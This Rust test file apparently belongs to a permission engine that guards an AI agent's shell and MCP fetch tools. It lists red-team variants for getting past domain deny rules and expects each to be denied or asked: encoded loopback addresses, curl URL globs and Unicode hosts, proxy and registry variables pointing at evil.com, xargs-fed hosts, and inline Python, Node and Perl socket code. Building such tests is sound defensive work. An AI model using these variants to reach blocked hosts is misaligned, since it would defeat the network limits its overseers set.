//! The network red team's classes (`WebFetch(domain:…)` rules met by what a
//! command or an MCP tool reaches), one section per class: each row is a
//! variant of the class, and the harmless forms beside them stay allowed.

use tack_policy::Verdict::{Allow, Ask, Deny};

use crate::support::{Case, case, run};

const B: &str = "Bash";

const LOCAL: &[&str] = &["allow Bash", "deny WebFetch(domain:127.0.0.1)"];
const LOCALHOST: &[&str] = &["allow Bash", "deny WebFetch(domain:localhost)"];
const INTRANET: &[&str] = &["allow Bash", "deny WebFetch(domain:intranet)"];
const EVIL: &[&str] = &["allow Bash", "deny WebFetch(domain:evil.com)"];

// N-A: a host word without a dot in a host's place (`localhost`, a name of
// the local network, the single-number IPv4 forms) was never read, so the
// rule naming it never met the command. It is read as WebFetch's parser
// reads a host; `0` and `0.0.0.0` connect to the machine itself.

const DOTLESS: &[Case] = &[
    case(LOCAL, B, "curl -s 2130706433:8099", Deny),
    case(LOCAL, B, "curl -s 0x7f000001:8099", Deny),
    case(LOCAL, B, "curl -s 017700000001:8099", Deny),
    case(LOCAL, B, "wget -qO- 2130706433:8099", Deny),
    case(LOCAL, B, "nc -w2 2130706433 8099", Deny),
    case(LOCAL, B, "socat - TCP:2130706433:8099", Deny),
    case(LOCAL, B, "telnet 2130706433 8099", Deny),
    case(LOCAL, B, "ssh -p 8099 0x7f000001", Deny),
    case(LOCAL, B, "openssl s_client -connect 2130706433:8099", Deny),
    case(LOCAL, B, "scp f 2130706433:x", Deny),
    case(LOCAL, B, "rsync f 2130706433:x", Deny),
    case(LOCAL, B, "ping -c1 2130706433", Deny),
    case(LOCAL, B, "ping -c 1 2130706433", Deny),
    case(LOCAL, B, "curl -s 0:8099", Deny),
    case(LOCAL, B, "curl -s 0.0.0.0:8099", Deny),
    case(LOCAL, B, "nc -w1 0 8099", Deny),
    case(LOCALHOST, B, "curl -s localhost:8099", Deny),
    case(LOCALHOST, B, "curl -s LOCALHOST:8099", Deny),
    case(LOCALHOST, B, "wget -qO- localhost:8099", Deny),
    case(LOCALHOST, B, "nc localhost 8099", Deny),
    case(LOCALHOST, B, "ssh localhost", Deny),
    case(LOCALHOST, B, "ssh -p 8099 user@localhost", Deny),
    case(LOCALHOST, B, "scp f localhost:x", Deny),
    case(LOCALHOST, B, "git ls-remote localhost:x", Deny),
    case(LOCALHOST, B, "telnet localhost 8099", Deny),
    case(LOCALHOST, B, "ping -c1 localhost", Deny),
    case(LOCALHOST, B, "curl -s 0:8099", Deny),
    case(INTRANET, B, "curl intranet", Deny),
    case(INTRANET, B, "ssh intranet", Deny),
    case(INTRANET, B, "nc intranet 80", Deny),
    case(INTRANET, B, "ssh -J intranet ok.org", Deny),
    // Words that are no host, and counts after an option, stay allowed.
    case(LOCAL, B, "ping -c 1 ok.org", Allow),
    case(LOCAL, B, "ping -W 0 ok.org", Allow),
    case(LOCALHOST, B, "cat notes.txt", Allow),
    case(LOCALHOST, B, "git show HEAD:README.md", Allow),
    case(LOCALHOST, B, "git push origin main:main", Allow),
    case(LOCALHOST, B, "curl https://ok.org/x", Allow),
    case(LOCALHOST, B, "docker pull ubuntu:22.04", Allow),
    case(LOCALHOST, B, "docker push localhost:5000/img", Deny),
];

// Everyday commands beside domain rules, unchanged.
const EVERYDAY: &[&str] = &[
    "allow Bash",
    "allow Edit",
    "deny WebFetch(domain:evil.com)",
    "deny WebFetch(domain:localhost)",
    "deny WebFetch(domain:127.0.0.1)",
];

const EVERYDAY_CASES: &[Case] = &[
    case(EVERYDAY, B, "npm install", Allow),
    case(EVERYDAY, B, "npm run dev -- --host 0.0.0.0", Allow),
    case(EVERYDAY, B, "cargo build --release", Allow),
    case(EVERYDAY, B, "git clone https://github.com/o/r", Allow),
    case(EVERYDAY, B, "git push origin HEAD:refs/heads/x", Allow),
    case(EVERYDAY, B, "git log --oneline origin/main..HEAD", Allow),
    case(EVERYDAY, B, "pip install requests", Allow),
    case(EVERYDAY, B, "docker run -p 8080:80 nginx", Allow),
    case(EVERYDAY, B, "ssh -p 22 ok.org uptime", Allow),
    case(EVERYDAY, B, "curl -o out.html https://ok.org", Allow),
    case(
        EVERYDAY,
        B,
        "python3 manage.py runserver 0.0.0.0:8000",
        Allow,
    ),
    case(
        EVERYDAY,
        B,
        "uvicorn app:app --host 0.0.0.0 --port 8000",
        Allow,
    ),
    case(EVERYDAY, B, "kubectl get pods", Allow),
    case(EVERYDAY, B, "ping -c 3 ok.org", Allow),
    case(EVERYDAY, B, "ping -i 0.2 -c 3 ok.org", Allow),
    case(EVERYDAY, B, "dig ok.org MX", Allow),
    case(EVERYDAY, B, "rsync -av src/ dest/", Allow),
    case(EVERYDAY, B, "scp ok.org:x .", Allow),
    case(
        EVERYDAY,
        B,
        "DATABASE_URL=postgres://db.ok.org/x npm test",
        Allow,
    ),
    case(EVERYDAY, B, "PORT=3000 npm start", Allow),
];

#[test]
fn everyday_commands_beside_domain_rules_are_unchanged() {
    run(EVERYDAY_CASES);
}

#[test]
fn hosts_without_a_dot_meet_the_domain_rules() {
    run(DOTLESS);
}

const MCP_LOCAL: &[&str] = &["allow mcp__fetch", "deny WebFetch(domain:127.0.0.1)"];
const MCP_LOCALHOST: &[&str] = &["allow mcp__fetch", "deny WebFetch(domain:localhost)"];

const MCP_DOTLESS: &[Case] = &[
    case(
        MCP_LOCALHOST,
        "mcp__fetch__fetch",
        r#"{"host": "localhost"}"#,
        Deny,
    ),
    case(
        MCP_LOCAL,
        "mcp__fetch__fetch",
        r#"{"host": "2130706433"}"#,
        Deny,
    ),
    case(
        MCP_LOCAL,
        "mcp__fetch__fetch",
        r#"{"endpoint": "0x7f000001:8099"}"#,
        Deny,
    ),
    case(
        MCP_LOCAL,
        "mcp__fetch__fetch",
        r#"{"url": "http:/127.0.0.1:8099/"}"#,
        Deny,
    ),
    case(
        MCP_LOCAL,
        "mcp__fetch__fetch",
        r#"{"url": "http://{127.0.0.1}/"}"#,
        Deny,
    ),
    case(
        MCP_LOCAL,
        "mcp__fetch__fetch",
        r#"{"url": "http://0.0.0.0:8099/"}"#,
        Deny,
    ),
    case(
        MCP_LOCAL,
        "mcp__fetch__fetch",
        r#"{"url": "https://ok.org/"}"#,
        Allow,
    ),
];

#[test]
fn an_mcp_tool_given_a_host_without_a_dot_meets_the_domain_rules() {
    run(MCP_DOTLESS);
}

// N-B: curl's own URL syntax (globs, `http:/h`, IDNA in a host without a
// scheme) hid the host. Read as curl reads it; a glob that names too many
// hosts to list is a host known only at run time.

const CURL_SYNTAX: &[Case] = &[
    case(EVIL, B, "curl 'http://{evil.com}/'", Deny),
    case(EVIL, B, "curl 'http://ev[i-i]l.com/'", Deny),
    case(EVIL, B, "curl 'ev{il}.com'", Deny),
    case(EVIL, B, "curl 'http://{evil,good}.com/'", Deny),
    case(EVIL, B, "curl http:/evil.com", Deny),
    case(EVIL, B, "curl 'ｅｖｉｌ.com'", Deny),
    case(EVIL, B, "curl 'evil。com'", Deny),
    case(EVIL, B, "curl 'evil%2ecom'", Deny),
    case(EVIL, B, "curl --url 'http://{evil,ok}.com/'", Deny),
    case(EVIL, B, "curl 'http://h[0-9999].evil.com/'", Ask),
    case(EVIL, B, "curl 'http://{a,b/'", Ask),
    case(LOCAL, B, "curl -s 'http://127.0.0.[1-1]:8099/'", Deny),
    case(LOCAL, B, "curl -s 'http://{127.0.0.1}:8099/'", Deny),
    case(LOCAL, B, "curl -s http:/127.0.0.1:8099/", Deny),
    // A glob in the path, or one curl is told not to expand.
    case(EVIL, B, "curl 'https://ok.org/page[1-1000].html'", Allow),
    case(EVIL, B, "curl -g 'http://[::1]:8080/{x}'", Allow),
    case(EVIL, B, "curl 'http://[::1]:8080/'", Allow),
];

#[test]
fn curl_url_syntax_names_the_host_curl_reaches() {
    run(CURL_SYNTAX);
}

// N-C: the options and operand forms known network clients take a host in.

const CLIENT_FORMS: &[Case] = &[
    case(EVIL, B, "git ls-remote evil.com:x", Deny),
    case(EVIL, B, "git fetch evil.com:x", Deny),
    case(EVIL, B, "git push evil.com:x main", Deny),
    case(EVIL, B, "git remote add o evil.com:x", Deny),
    case(EVIL, B, "git clone evil.com:x", Deny),
    case(INTRANET, B, "git clone -q intranet:r", Deny),
    case(EVIL, B, "git archive --remote=evil.com:x HEAD", Deny),
    case(EVIL, B, "git submodule add evil.com:x lib/x", Deny),
    case(EVIL, B, "git remote set-url origin evil.com:x", Deny),
    case(EVIL, B, "git config remote.origin.url evil.com:x", Deny),
    case(
        EVIL,
        B,
        "git -c remote.origin.url=evil.com:x fetch origin",
        Deny,
    ),
    case(
        EVIL,
        B,
        "git -c http.proxy=evil.com:3128 ls-remote http://ok.org/r",
        Deny,
    ),
    case(LOCAL, B, "git -c https.proxy=127.0.0.1:8099 fetch", Deny),
    case(
        LOCAL,
        B,
        "nc -w2 -X connect -x 127.0.0.1:8099 example.org 80",
        Deny,
    ),
    case(EVIL, B, "nc -x evil.com:1080 ok.com 80", Deny),
    case(EVIL, B, "openssl s_client evil.com:443", Deny),
    case(LOCAL, B, "openssl s_client -quiet 127.0.0.1:8099", Deny),
    case(LOCAL, B, "docker -H 127.0.0.1:8099 ps", Deny),
    case(EVIL, B, "docker --host=evil.com:2375 ps", Deny),
    case(LOCAL, B, "kubectl --server 127.0.0.1:8099 get pods", Deny),
    case(EVIL, B, "kubectl -s evil.com:6443 get pods", Deny),
    case(EVIL, B, "psql -h evil.com", Deny),
    case(EVIL, B, "psql \"host=evil.com dbname=x\"", Deny),
    case(EVIL, B, "pg_dump -d 'host=evil.com dbname=x'", Deny),
    case(EVIL, B, "mysql -h evil.com", Deny),
    case(EVIL, B, "mysql -hevil.com -u root", Deny),
    case(EVIL, B, "mysqldump --host=evil.com db", Deny),
    case(EVIL, B, "redis-cli -h evil.com", Deny),
    case(EVIL, B, "mongosh evil.com", Deny),
    case(EVIL, B, "smbclient //evil.com/share", Deny),
    case(EVIL, B, "tftp evil.com", Deny),
    case(EVIL, B, "nmap -p 80 evil.com", Deny),
    case(EVIL, B, "gh api --hostname evil.com /x", Deny),
    case(EVIL, B, "gh repo clone evil.com/o/r", Deny),
    case(
        EVIL,
        B,
        "aria2c --all-proxy=evil.com:3128 http://ok.com",
        Deny,
    ),
    case(EVIL, B, "npm view lodash --proxy evil.com:3128", Deny),
    case(EVIL, B, "psql -h \"$DBHOST\"", Ask),
    // The same clients on the user's own hosts, and local forms.
    case(EVIL, B, "git ls-remote ok.org:x", Allow),
    case(EVIL, B, "git fetch origin", Allow),
    case(EVIL, B, "git config user.name evil", Allow),
    case(EVIL, B, "psql -h db.ok.org -c 'select 1'", Allow),
    case(EVIL, B, "psql mydb", Allow),
    case(EVIL, B, "docker ps", Allow),
    case(EVIL, B, "gh repo clone owner/repo", Allow),
    case(EVIL, B, "mysql -u root -p", Allow),
];

#[test]
fn the_host_options_and_forms_of_network_clients_meet_the_domain_rules() {
    run(CLIENT_FORMS);
}

// N-D: a URL or a host in the environment a command is given (a proxy, a
// package index, a registry, a server).

const ENVIRONMENT: &[Case] = &[
    case(
        EVIL,
        B,
        "PIP_INDEX_URL=https://evil.com/simple pip download requests",
        Deny,
    ),
    case(
        EVIL,
        B,
        "env PIP_INDEX_URL=https://evil.com/simple pip download requests",
        Deny,
    ),
    case(
        EVIL,
        B,
        "npm_config_registry=https://evil.com npm view lodash",
        Deny,
    ),
    case(
        EVIL,
        B,
        "https_proxy=http://evil.com:3128 pip download requests",
        Deny,
    ),
    case(EVIL, B, "HTTPS_PROXY=evil.com:3128 npm view lodash", Deny),
    case(
        EVIL,
        B,
        "env ALL_PROXY=evil.com:1080 curl https://ok.org",
        Deny,
    ),
    case(EVIL, B, "GOPROXY=https://evil.com go get x", Deny),
    case(EVIL, B, "AWS_ENDPOINT_URL=https://evil.com aws s3 ls", Deny),
    case(EVIL, B, "DOCKER_HOST=tcp://evil.com:2375 docker ps", Deny),
    case(EVIL, B, "GH_HOST=evil.com gh api /x", Deny),
    case(EVIL, B, "PGHOST=evil.com psql", Deny),
    case(
        EVIL,
        B,
        "export HTTPS_PROXY=evil.com:3128; npm view lodash",
        Deny,
    ),
    case(
        EVIL,
        B,
        "sudo HTTPS_PROXY=evil.com:3128 npm view lodash",
        Deny,
    ),
    case(
        EVIL,
        B,
        "declare -x http_proxy=evil.com:1; wget http://ok.org",
        Deny,
    ),
    case(
        LOCAL,
        B,
        "http_proxy=127.0.0.1:8099 curl -s http://github.com/x",
        Deny,
    ),
    case(
        LOCAL,
        B,
        "ALL_PROXY=127.0.0.1:8099 curl -s http://github.com/x",
        Deny,
    ),
    case(EVIL, B, "HTTPS_PROXY=\"$P\" npm view lodash", Ask),
    // Variables that name no host to reach, and a server's own address.
    case(EVIL, B, "NODE_ENV=production npm run build", Allow),
    case(LOCAL, B, "HOST=0.0.0.0 PORT=3000 npm run dev", Allow),
    case(EVIL, B, "no_proxy=evil.com curl https://ok.org", Allow),
    case(EVIL, B, "RUST_LOG=debug cargo test", Allow),
];

#[test]
fn hosts_in_the_environment_given_to_a_command_meet_the_domain_rules() {
    run(ENVIRONMENT);
}

// N-E: `xargs PROG` appends words read at run time to a network program.

const XARGS: &[Case] = &[
    case(LOCAL, B, "xargs nc -w1 <<< '127.0.0.1 8099'", Ask),
    case(LOCAL, B, "echo 127.0.0.1 8099 | xargs nc -w1", Ask),
    case(LOCAL, B, "xargs curl -s < urls.txt", Ask),
    case(LOCAL, B, "xargs -a urls.txt curl -s", Ask),
    case(LOCAL, B, "xargs -a urls.txt wget -q -O /dev/null", Ask),
    case(LOCAL, B, "cat urls.txt | xargs wget -q -O /dev/null", Ask),
    case(LOCAL, B, "xargs -n1 ssh < hosts.txt", Ask),
    case(LOCAL, B, "xargs -n1 git clone < repos.txt", Ask),
    case(LOCAL, B, "find . -name '*.host' -exec ping -c1 {} +", Ask),
    // Programs that reach no host, and no domain rules.
    case(LOCAL, B, "git ls-files | xargs git add", Allow),
    case(LOCAL, B, "ls | xargs wc -l", Allow),
    case(&["allow Bash"], B, "xargs curl -s < urls.txt", Allow),
];

#[test]
fn hosts_xargs_gives_a_network_program_are_known_only_at_run_time() {
    run(XARGS);
}

// N-F: inline interpreter code can build a host at run time: asked where
// domain rules exist, as it is where Read, Edit or Bash rules exist.

const INLINE_CODE: &[Case] = &[
    case(
        EVIL,
        B,
        "python3 -c \"import urllib.request as u; u.urlopen('http://'+'evil.com')\"",
        Ask,
    ),
    case(
        EVIL,
        B,
        "python3 -c \"import socket; socket.create_connection(('evil.com',80))\"",
        Ask,
    ),
    case(
        EVIL,
        B,
        "python3.12 -c \"import ftplib; ftplib.FTP('evil.com')\"",
        Ask,
    ),
    case(EVIL, B, "node -e \"fetch('http://'+'evil.com')\"", Ask),
    case(
        EVIL,
        B,
        "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"evil.com:80\")'",
        Ask,
    ),
    case(
        EVIL,
        B,
        "ruby -rnet/http -e 'Net::HTTP.get(\"evil.com\",\"/\")'",
        Ask,
    ),
    case(
        EVIL,
        B,
        "php -r 'file_get_contents(\"http://\".\"evil.com\");'",
        Ask,
    ),
    case(
        &["allow Bash", "ask WebFetch(domain:evil.com)"],
        B,
        "node -e \"fetch(h)\"",
        Ask,
    ),
    // Code that reaches nothing, and no domain rules.
    case(EVIL, B, "python3 -c 'print(1 + 2)'", Allow),
    case(
        &["allow Bash"],
        B,
        "node -e \"fetch('http://'+'evil.com')\"",
        Allow,
    ),
];

#[test]
fn inline_code_is_asked_where_domain_rules_exist() {
    run(INLINE_CODE);
}

// N-H: a checked-in project file's `Bash(PROGRAM *)` was narrow (applied
// without approval) unless the program was an interpreter named exactly.
// Versioned interpreters, other code runners, programs that change any path
// they are given, and wildcards over a public suffix reach past the project.

#[test]
fn project_rules_that_reach_past_the_project_wait_for_approval() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    let wide = |r: &str| tack_policy::wide_allow_rule(r, &root, None);
    for broad in [
        "Bash(python3.11 *)",
        "Bash(pypy3 *)",
        "Bash(ipython *)",
        "Bash(perl5.36 *)",
        "Bash(ruby3.2 *)",
        "Bash(julia *)",
        "Bash(java *)",
        "Bash(jshell *)",
        "Bash(gdb *)",
        "Bash(sqlite3 *)",
        "Bash(psql *)",
        "Bash(tmux *)",
        "Bash(make *)",
        "Bash(go *)",
        "Bash(go run *)",
        "Bash(cargo *)",
        "Bash(pip *)",
        "Bash(npx *)",
        "Bash(docker *)",
        "Bash(rm *)",
        "Bash(cp *)",
        "Bash(mv *)",
        "Bash(chmod *)",
        "Bash(chown *)",
        "Bash(dd *)",
        "Bash(tee *)",
        "Bash(ln *)",
        "Bash(rsync *)",
        "WebFetch(domain:*.co.uk)",
        "WebFetch(domain:*.github.io)",
        "WebFetch(domain:*.amazonaws.com)",
        "WebFetch(domain:*.com.au)",
    ] {
        assert!(wide(broad).is_some(), "{broad} should wait for approval");
    }
    for narrow in [
        "Bash(cargo test *)",
        "Bash(npm run test *)",
        "Bash(npm test)",
        "Bash(git log *)",
        "Bash(ls *)",
        "Bash(make test)",
        "Bash(rm -rf build)",
        "WebFetch(domain:*.example.com)",
        "WebFetch(domain:*.bbc.co.uk)",
    ] {
        assert_eq!(wide(narrow), None, "{narrow}");
    }
}
